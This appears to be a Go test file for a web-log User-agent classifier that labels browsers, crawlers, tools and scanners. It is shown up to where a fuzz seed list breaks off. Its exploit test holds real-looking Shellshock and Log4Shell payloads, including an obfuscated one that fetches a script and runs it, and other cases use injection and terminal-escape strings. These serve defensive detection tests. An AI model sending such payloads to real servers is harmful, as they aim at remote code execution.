package agents

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/ua-parser/uap-go/uaparser"
)

// labelledAgents is the labelled corpus beside the repository (see its README).
const labelledAgents = "../../shared/data/ua/labelled_user_agents.json"

func loadLabelledAgents(t testing.TB) (bots, browsers []string) {
	t.Helper()
	b, err := os.ReadFile(filepath.FromSlash(labelledAgents))
	if err != nil {
		t.Skipf("labelled corpus not available: %v", err)
	}
	var c struct{ Bots, Browsers []string }
	if err := json.Unmarshal(b, &c); err != nil {
		t.Fatalf("reading %s: %v", labelledAgents, err)
	}
	if len(c.Bots) == 0 || len(c.Browsers) == 0 {
		t.Fatalf("%s: no bots or no browsers", labelledAgents)
	}
	return c.Bots, c.Browsers
}

// TestAgentCorpusRates measures the classifier on real crawler and browser
// strings it was not written from: the share of bots it flags (any kind but
// browser) and the share of browsers it flags. The thresholds are the rates
// achieved when the rules were written, minus a small margin, so a change
// that loses detection or flags people fails here.
func TestAgentCorpusRates(t *testing.T) {
	bots, browsers := loadLabelledAgents(t)
	var c Classifier
	flagged := func(list []string, want bool) (n int, odd []string) {
		for _, ua := range list {
			a := c.Classify(ua)
			if (a.Kind != Browser) == want {
				n++
			} else {
				odd = append(odd, a.Kind.String()+" "+a.Name+" "+a.Reason+" | "+ua)
			}
		}
		return n, odd
	}
	botHits, missed := flagged(bots, true)
	browserOK, wrong := flagged(browsers, false)
	botRate := float64(botHits) / float64(len(bots))
	browserRate := float64(len(browsers)-browserOK) / float64(len(browsers))
	t.Logf("bots flagged: %d/%d = %.1f%%", botHits, len(bots), 100*botRate)
	t.Logf("browsers flagged: %d/%d = %.1f%%", len(browsers)-browserOK, len(browsers), 100*browserRate)
	// Achieved when written: 87.6% of bots (416 of 475), 0.8% of browsers (4 of 510).
	if botRate < 0.86 {
		t.Errorf("bots flagged %.1f%%, want at least 86%%", 100*botRate)
	}
	if browserRate > 0.012 {
		t.Errorf("browsers flagged %.1f%%, want at most 1.2%%", 100*browserRate)
	}
	if testing.Verbose() {
		for _, s := range missed {
			t.Logf("missed bot: %s", s)
		}
		for _, s := range wrong {
			t.Logf("flagged browser: %s", s)
		}
	}
}

func TestClassifyAgent(t *testing.T) {
	const chromeWin = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	tests := []struct {
		ua   string
		kind Kind
		name string
	}{
		// Empty.
		{"", Empty, "(empty)"},
		{"-", Empty, "(empty)"},
		{"   ", Empty, "(empty)"},

		// Apps and text browsers people use: an Android app names itself
		// before okhttp; w3m is Lynx's peer. A bare library stays a tool.
		{"BlogReader/3.2.1 (com.example.blogreader; build:412; Android 14) okhttp/4.12.0", Browser, "BlogReader"},
		{"okhttp/4.12.0", Tool, "okhttp"},
		{"Mozilla/5.0 (compatible; MyCrawler/1.0; Android) okhttp/4.12.0", Tool, "okhttp"},
		{"Scanner/1.0 okhttp/4.9.0", Tool, "okhttp"},
		{"w3m/0.5.3+git20230121", Browser, "w3m"},

		// Declared crawlers, as their vendors document them.
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "Googlebot"},
		{"Googlebot/2.1 (+http://www.google.com/bot.html)", Crawler, "Googlebot"},
		{"Googlebot-Image/1.0", Crawler, "Googlebot-Image"},
		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.6533.119 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "Googlebot"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", Crawler, "bingbot"},
		// A version spelt into the name is no part of it: one row for
		// every Pingdom release.
		{"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", Crawler, "Pingdom.com_bot"},
		{"Nutch-1.4", Crawler, "Nutch"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", Crawler, "Applebot"},
		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", Crawler, "facebookexternalhit"},
		{"Twitterbot/1.0", Crawler, "Twitterbot"},
		// Google's user-triggered fetchers that carry no role word or URL.
		{"Mozilla/5.0 (compatible; Google-CWS)", Crawler, "Google-CWS"},
		{"Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 (compatible; GoogleMessages)", Crawler, "GoogleMessages"},
		{"Google-Pinpoint", Crawler, "Google-Pinpoint"},
		// Apple's Messages fetches a shared link's preview from the
		// person's own iPhone or Mac under Safari's string with Meta's and
		// X's preview tokens appended: Apple's, not Meta's fetcher.
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1 facebookexternalhit/1.1 Facebot Twitterbot/1.0", Crawler, "Apple Messages link preview"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", Crawler, "Apple Messages link preview"},
		// The same tokens after another browser are no Apple device's.
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 facebookexternalhit/1.1 Facebot Twitterbot/1.0", Crawler, "facebookexternalhit"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", Crawler, "GPTBot"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", Crawler, "ClaudeBot"},
		{"CCBot/2.0 (https://commoncrawl.org/faq/)", Crawler, "CCBot"},
		// Feature phones on MediaTek's MAUI: people, not "no known browser".
		{"LAVA.KKT35+.FARSIGHTED60D_CN_11B_HW (MAUI/KKT35_S116_20130820;LCD/240320;WAP Browser/MAUI (HTTPS)) LAVA_KKT35_S116_20130820 Release/2013.08.20 WAP Browser/MAUI (HTTPS) Profile/  Q03C1-2.40 en-US", Browser, "LAVA.KKT35"},
		// and those that send only the browser's name, with no version
		// (the elastic log's phone loaded the page's images too).
		{"MAXX_MAUI WAP Browser", Browser, "MAXX_MAUI WAP Browser"},
		{"Maui Browser", Browser, "Maui Browser"},
		// Feed readers that compare themselves with Google's: their own
		// names, not FeedFetcher-Google (whose identity they would fail).
		{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers; like FeedFetcher-Google)", Crawler, "Feedly"},
		{"Mozilla/5.0 (compatible; Inoreader/1.0; +http://www.inoreader.com/feed-fetcher; 3 subscribers; like FeedFetcher-Google)", Crawler, "Inoreader"},
		{"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", Crawler, "YandexBot"},
		{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", Crawler, "Baiduspider"},
		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", Crawler, "AhrefsBot"},
		{"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", Crawler, "SemrushBot"},
		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Crawler, "Slackbot-LinkExpanding"},
		// Generic rules: a role word in the product name, a contact URL or address.
		{"Mozilla/5.0 (compatible; ExamploCrawler/1.0)", Crawler, "ExamploCrawler"},
		{"examplo-spider/0.3", Crawler, "examplo-spider"},
		{"Superfeedr bot/2.0 http://superfeedr.com", Crawler, "Superfeedr bot"},
		{"Mozilla/5.0 (compatible; Examplo/2.1; +https://examplo.example/info)", Crawler, "Examplo"},
		{"Examplo/1.0 (admin@examplo.example)", Crawler, "Examplo"},
		{"Examplo/1.0 (+examplo.example)", Crawler, "Examplo"},
		{"Examplo Link Checker 2.1 (+http://examplo.example/)", Crawler, "Examplo Link Checker"},
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.examplo.example)", Crawler, "examplo.example"},

		// Tools and libraries, with their default User-agents.
		{"Blackbox Exporter/0.24.0", Tool, "Blackbox Exporter"},
		{"curl/8.4.0", Tool, "curl"},
		{"  curl/8.4.0\t", Tool, "curl"},
		{"Wget/1.21.4", Tool, "Wget"},
		{"Wget/1.21 (linux-gnu)", Tool, "Wget"},
		{"python-requests/2.31.0", Tool, "python-requests"},
		{"Python-urllib/3.11", Tool, "Python-urllib"},
		{"Python/3.11 aiohttp/3.9.1", Tool, "aiohttp"},
		{"python-httpx/0.25.2", Tool, "python-httpx"},
		{"Go-http-client/1.1", Tool, "Go-http-client"},
		{"go-http-client/2.0", Tool, "Go-http-client"},
		{"Java/17.0.2", Tool, "Java"},
		{"Apache-HttpClient/4.5.14 (Java/17.0.8)", Tool, "Apache-HttpClient"},
		{"okhttp/4.9.3", Tool, "okhttp"},
		{"libwww-perl/6.72", Tool, "libwww-perl"},
		{"Scrapy/2.11.0 (+https://scrapy.org)", Tool, "Scrapy"},
		{"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", Tool, "node-fetch"},
		{"axios/1.6.2", Tool, "axios"},
		{"PostmanRuntime/7.36.0", Tool, "PostmanRuntime"},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36", Tool, "HeadlessChrome"},
		{"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", Tool, "PhantomJS"},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Tool, "Nmap"},
		{"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Tool, "masscan"},
		{"Mozilla/5.0 zgrab/0.x", Tool, "zgrab"},
		{"lua-resty-http/0.17 (Lua) ngx_lua/10025", Tool, "lua-resty-http"},

		// Browsers, named by family.
		{chromeWin, Browser, "Chrome"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", Browser, "Firefox"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15", Browser, "Safari"},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1", Browser, "Safari"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", Browser, "Edge"},
		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", Browser, "Chrome"},
		{"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", Browser, "Samsung Internet"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", Browser, "Opera"},
		{"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser, "IE"},
		// Old is not impossible: the log may be old, and so may the machine.
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", Browser, "IE"},
		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36", Browser, "Chrome"},
		// Browsers and apps that only uap-go knows.
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/444.0.0.37.108;FBBV/551265395;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", Browser, "Facebook"},
		{"Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8", Browser, "Lynx"},
		{"Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)", Browser, "Android"},
		{"Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0", Browser, "Weather"},

		// Browser strings that cannot be real.
		{"Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (Windows NT 5.1; rv:115.0) Gecko/20100101 Firefox/115.0", Suspicious, "Firefox"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (compatible; MSIE 12.0; Windows NT 10.0; Trident/8.0)", Suspicious, "IE"},
		{"Mozilla/5.0 (Linux; Android 12; Pixel 6) (compatible; MSIE 10.0; Trident/6.0)", Suspicious, "IE"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Suspicious, "Mozilla"},
		{"Mozilla/5.0 Gecko/20100115 Firefox/3.6", Suspicious, "Firefox"}, // no system: the elastic log's updater polling one file
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 CK={} (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser, "IE"}, // a toolbar's mark, the system after it
		{"Anonymous, " + chromeWin, Suspicious, "Chrome"},
		{chromeWin + "'+(select 1)+'", Suspicious, "Chrome"},
		{chromeWin + " ${jndi:ldap://x.example/a}", Tool, "Log4Shell"}, // an exploit, not a browser: TestExploitAgent
		{chromeWin + strings.Repeat(" A", 5*1024), Suspicious, "Chrome"},
		{chromeWin + "\x1b[31m", Suspicious, "Chrome"},
		// Chrome pieced together from two browsers' strings (aws scanners in
		// secrepo 2018, an ALB log of 2025): every Chrome writes
		// AppleWebKit/, none writes Gecko's rv:. A fringe system's browser
		// (AmigaOS, labelled a browser in ../shared/data/ua) may mix them.
		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.79 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X x.y; rv:42.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.79 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/126.0.0.0 Safari/537.36", Suspicious, "Chrome"},
		{"Mozilla/5.0 (AmigaOs; 4.0; en-US; rv:1.8.1.21pre)  AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.666.4147.105 Safari/537.36", Browser, "Chrome"},
		// Misspelled by the scripts that copied them: exploit kits' "Mozlila"
		// and "Bulid", a DVR exploit's "Mozila/5.0" (Daniloday/ubuntu
		// access.log.2); a Firefox whose rv: and version disagree, asking for
		// /testproxy.php (the nginx log quoted in a blog post on AWS ELB).
		{"Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36", Suspicious, "Chrome Mobile WebView"},
		{"Mozila/5.0", Unknown, "Mozila"},
		{"Mozilla/5.0 (Windows NT 5.1; rv:32.0) Gecko/20100101 Firefox/31.0", Suspicious, "Firefox"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", Browser, "Firefox"}, // rv frozen at 109 for 110 to 119
		{"Mozilla/5.0 (Windows NT 6.1; rv:2.0.1) Gecko/20100101 Firefox/4.0.1", Browser, "Firefox"},              // Firefox 4 said rv:2.0
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.5; rv:10.0.1) Gecko/20100101 Firefox/10.0.1 SeaMonkey/2.7.1", Browser, "Firefox"},

		// Not a browser at all.
		{"Hello World", Unknown, "Hello World"},
		{"123", Unknown, "123"},
		{"\t=1+1 crawler/1", Crawler, "crawler"}, // a number first names nothing
		{"\xff\xfe\x00\x01garbage", Unknown, "garbage"},
		{"FooClient/1.0", Unknown, "FooClient"},
	}
	var c Classifier
	for _, tt := range tests {
		got := c.Classify(tt.ua)
		if got.Kind != tt.kind || got.Name != tt.name {
			t.Errorf("Classify(%.120q) = %v %q (%s), want %v %q", tt.ua, got.Kind, got.Name, got.Reason, tt.kind, tt.name)
		}
		if (got.Reason == "") != (got.Kind == Browser) {
			t.Errorf("Classify(%.120q): kind %v with reason %q; only browsers have none", tt.ua, got.Kind, got.Reason)
		}
	}
}

// TestExploitAgent: an exploit sent as the User-agent is a scanner's, named
// by the exploit, not by the downloader in its command.
func TestExploitAgent(t *testing.T) {
	tests := []struct{ ua, name string }{
		{"() { :; }; /bin/bash -c 'wget http://198.51.100.7/x.sh -O /tmp/x.sh'", "Shellshock"},
		{"() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id", "Shellshock"},
		{" () { :;}; curl http://198.51.100.7/a", "Shellshock"},
		{"${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldA==}", "Log4Shell"},
		{"Mozilla/5.0 ${jndi:ldap://198.51.100.7/a}", "Log4Shell"},
		{"Mozilla/5.0 ${JNDI:ldap://198.51.100.7/a}", "Log4Shell"},
		// Obfuscated: a User-agent captured in December 2021 from
		// 45.155.205.233 (a packet capture of a CTF write-up), and the
		// nested forms scanners send.
		{"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xNjIuMC4yMjguMjUzOjgwfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0LzE2Mi4wLjIyOC4yNTM6ODApfGJhc2g=}", "Log4Shell"},
		{"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}", "Log4Shell"},
		{"Mozilla/5.0 ${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://198.51.100.7/a}", "Log4Shell"},
	}
	var c Classifier
	for _, tt := range tests {
		got := c.Classify(tt.ua)
		if got.Kind != Tool || !got.Scanner || got.Name != tt.name {
			t.Errorf("Classify(%q) = %v %q scanner=%v, want a scanner %q", tt.ua, got.Kind, got.Name, got.Scanner, tt.name)
		}
	}
	for _, ua := range []string{"Wget/1.21.4", "Mozilla/5.0 (X11; Linux x86_64) (){} Gecko/20100101 Firefox/120.0"} {
		if got := c.Classify(ua); got.Scanner {
			t.Errorf("Classify(%q) is a scanner %q", ua, got.Name)
		}
	}
}

// TestAgentCache checks that each distinct User-agent is classified once and
// that the cache stays bounded however many distinct values an attacker sends.
func TestAgentCache(t *testing.T) {
	const ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	var c Classifier
	want := c.Classify(ua)
	if got := c.ClassifyBytes([]byte(ua)); got != want {
		t.Errorf("ClassifyBytes = %+v, Classify = %+v", got, want)
	}
	b := []byte(ua)
	if n := testing.AllocsPerRun(100, func() { c.ClassifyBytes(b) }); n != 0 {
		t.Errorf("ClassifyBytes on a cached User-agent: %v allocations, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { c.Classify(ua) }); n != 0 {
		t.Errorf("Classify on a cached User-agent: %v allocations, want 0", n)
	}

	// Values longer than MaxLen share one entry per prefix, and the
	// entry's key is at most MaxLen+1 bytes.
	long := strings.Repeat("x", 10*1024)
	a1 := c.Classify("curl/8.4.0 " + long)
	a2 := c.Classify("curl/8.4.0 " + long + "y")
	if a1 != a2 || a1.Kind != Tool {
		t.Errorf("long curl User-agents: %+v and %+v, want the same tool", a1, a2)
	}
	for k := range c.cache {
		if len(k) > MaxLen+1 {
			t.Errorf("cache key of %d bytes, want at most %d", len(k), MaxLen+1)
		}
	}

	for i := 0; i < maxCachedAgents+1000; i++ {
		c.Classify("curl/" + strconv.Itoa(i))
	}
	if len(c.cache) > maxCachedAgents {
		t.Errorf("cache holds %d User-agents, want at most %d", len(c.cache), maxCachedAgents)
	}
	if got := c.Classify(ua); got != want {
		t.Errorf("after eviction: %+v, want %+v", got, want)
	}
}

// TestAgentParserBudget checks that a flood of distinct strings only uap-go
// could place stops costing uap-go time once the budget is spent.
func TestAgentParserBudget(t *testing.T) {
	c := Classifier{parserBytes: MaxParserBytes}
	a := c.Classify("Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0")
	if a.Kind != Browser {
		t.Errorf("app User-agent past the budget: %+v, want a browser by its platform", a)
	}
	a = c.Classify("zzqx")
	if a.Kind != Unknown || !strings.Contains(a.Reason, "budget") {
		t.Errorf("garbage past the budget: %+v, want unknown, reason naming the budget", a)
	}
	if c.parserBytes != MaxParserBytes {
		t.Errorf("parser bytes %d, want %d", c.parserBytes, MaxParserBytes)
	}
	// A flood of junk spends the budget and no more (the run starts near the
	// end of the budget: spending all of it takes about 3 s, by design).
	f := Classifier{parserBytes: MaxParserBytes - 5*maxParserInput}
	junk := strings.Repeat("ab cd/1.0 ", MaxLen/10)
	for i := 0; f.parserBytes < MaxParserBytes; i++ {
		if i > 5 {
			t.Fatalf("%d junk User-agents and the budget (%d of %d bytes) is not spent", i, f.parserBytes, MaxParserBytes)
		}
		f.Classify(strconv.Itoa(i) + junk)
	}
	// Common browsers never need uap-go.
	var d Classifier
	d.Classify("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
	d.Classify("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0")
	if d.parserBytes != 0 {
		t.Errorf("uap-go given %d bytes for Chrome and Firefox, want 0", d.parserBytes)
	}
}

// TestAgentNameIsPrintable checks that robot names, which reports print,
// never carry the control bytes or escapes of a hostile User-agent.
func TestAgentNameIsPrintable(t *testing.T) {
	for _, ua := range []string{
		"\x1b]0;owned\x07EvilBot/1.0",
		"\x1b[2J\x1b[HScanner\x1b[0m/1.0 (+http://x.example)",
		"Foo\u202eBar/1.0 CFNetwork/1410.0.3 Darwin/22.6.0",
		"\x00\x01\x02",
		"Mozilla/5.0 (compatible; \x1b[31mRed\x1b[0m; +http://x.example)",
		strings.Repeat("\x1b", 2000),
	} {
		var c Classifier
		a := c.Classify(ua)
		if a.Name == "" || len(a.Name) > maxNameLen {
			t.Errorf("Classify(%q).Name = %q: want 1 to %d bytes", ua, a.Name, maxNameLen)
		}
		for i := 0; i < len(a.Name); i++ {
			if b := a.Name[i]; b < 0x20 || b >= 0x7f {
				t.Errorf("Classify(%q).Name = %q: byte %#x", ua, a.Name, b)
				break
			}
		}
	}
}

func TestKindString(t *testing.T) {
	for k, want := range map[Kind]string{Browser: "browser", Unknown: "unknown", Suspicious: "suspicious",
		Empty: "empty", Tool: "tool", Crawler: "crawler", 42: "kind(42)"} {
		if got := k.String(); got != want {
			t.Errorf("Kind(%d).String() = %q, want %q", k, got, want)
		}
	}
}

// BenchmarkClassifyHit is the cost per log line: a cache hit.
func BenchmarkClassifyHit(b *testing.B) {
	const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	var c Classifier
	c.Classify(ua)
	b.ReportAllocs()
	for b.Loop() {
		c.Classify(ua)
	}
}

// BenchmarkClassifyHitBytes is a cache hit from a read buffer.
func BenchmarkClassifyHitBytes(b *testing.B) {
	ua := []byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
	var c Classifier
	c.ClassifyBytes(ua)
	b.ReportAllocs()
	for b.Loop() {
		c.ClassifyBytes(ua)
	}
}

// distinctAgents returns n distinct variants of ua, so that every Classify
// is a cache miss (in our cache and in uap-go's).
func distinctAgents(ua string, n int) []string {
	s := make([]string, n)
	for i := range s {
		s[i] = strings.Replace(ua, "%d", strconv.Itoa(i), 1)
	}
	return s
}

func benchmarkCold(b *testing.B, ua string, wantParser bool) {
	uas := distinctAgents(ua, 1<<14)
	uapBrowsers() // built once per process; BenchmarkUAParserBuild measures it
	uapDevices()
	b.ReportAllocs()
	i := 0
	var c Classifier
	for b.Loop() {
		if i%1024 == 0 {
			c = Classifier{} // a fresh budget
		}
		c.Classify(uas[i%len(uas)])
		i++
	}
	if (c.parserBytes > 0) != wantParser {
		b.Fatalf("uap-go input: %d bytes, want some: %v", c.parserBytes, wantParser)
	}
}

// BenchmarkClassifyColdBrowser is a new common-browser string: decided by the
// token table and the family table, without uap-go.
func BenchmarkClassifyColdBrowser(b *testing.B) {
	benchmarkCold(b, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.%d.0 Safari/537.36", false)
}

// BenchmarkClassifyColdCrawler is a new declared-crawler string.
func BenchmarkClassifyColdCrawler(b *testing.B) {
	benchmarkCold(b, "Mozilla/5.0 (compatible; AhrefsBot/7.%d; +http://ahrefs.com/robot/)", false)
}

// BenchmarkClassifyColdApp is a new string only uap-go can place: an iOS
// app's CFNetwork User-agent.
func BenchmarkClassifyColdApp(b *testing.B) {
	benchmarkCold(b, "Weather/1.%d CFNetwork/1410.0.3 Darwin/22.6.0", true)
}

// BenchmarkClassifyColdUnknown is a new string nobody knows: uap-go's
// user-agent and device parsers both run, the worst case.
func BenchmarkClassifyColdUnknown(b *testing.B) {
	benchmarkCold(b, "zzqx%d", true)
}

// BenchmarkClassifyColdSpent is a new in-app browser string and a new junk
// string after a flood has spent uap-go's budget and reserve: the cost of
// the stand-in for uap-go (fallback.go) per distinct User-agent.
func BenchmarkClassifyColdSpent(b *testing.B) {
	uas := distinctAgents("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 307.0.0.%d.111 (iPhone14,5; iOS 17_1; en_US; en; scale=3.00; 1170x2532; 531186348)", 1<<14)
	junk := distinctAgents("zz%dq xq (yy) ww", 1<<14)
	b.ReportAllocs()
	c := Classifier{parserBytes: MaxParserBytes, reserveBytes: MaxReserveBytes}
	i := 0
	for b.Loop() {
		c.Classify(uas[i%len(uas)])
		c.Classify(junk[i%len(junk)])
		if i++; i%len(uas) == 0 {
			c = Classifier{parserBytes: MaxParserBytes, reserveBytes: MaxReserveBytes}
		}
	}
}

// BenchmarkClassifyCorpus is the mean cost per new User-agent over the
// labelled corpus (bots and browsers), with uap-go where the rules need it.
func BenchmarkClassifyCorpus(b *testing.B) {
	bots, browsers := loadLabelledAgents(b)
	all := append(bots, browsers...)
	uapBrowsers()
	uapDevices()
	b.ReportAllocs()
	for b.Loop() {
		var c Classifier
		for _, ua := range all {
			c.Classify(ua)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(all)), "ns/UA")
}

// BenchmarkUAParserBuild is what the first uap-go consultation of a process
// costs: compiling its regular expressions.
func BenchmarkUAParserBuild(b *testing.B) {
	for b.Loop() {
		if _, err := uaparser.New(uaparser.WithCacheSize(8)); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkUAParserParse is uap-go's own cost per new string, user-agent and
// device parsers, on a common browser string (which the classifier answers
// without it).
func BenchmarkUAParserParse(b *testing.B) {
	uas := distinctAgents("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.%d.0 Safari/537.36", 1<<14)
	p, d := uapBrowsers(), uapDevices()
	i := 0
	for b.Loop() {
		p.ParseUserAgent(uas[i%len(uas)])
		d.ParseDevice(uas[i%len(uas)])
		i++
	}
}

// FuzzClassifyAgent checks, on any bytes, that classification neither panics
// nor depends on history, and that names stay short and printable.
func FuzzClassifyAgent(f *testing.F) {
	for _, s := range []string{
		"", "-", "curl/8.4.0", "Googlebot-Image/1.0",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 5.1; rv:115.0) Gecko/20100101 Firefox/115.0",
		"Weather/1.2 CFNetwork/1410.0.3 Darwin/22.6.0", "Examplo/1.0 (admin@examplo.example)",
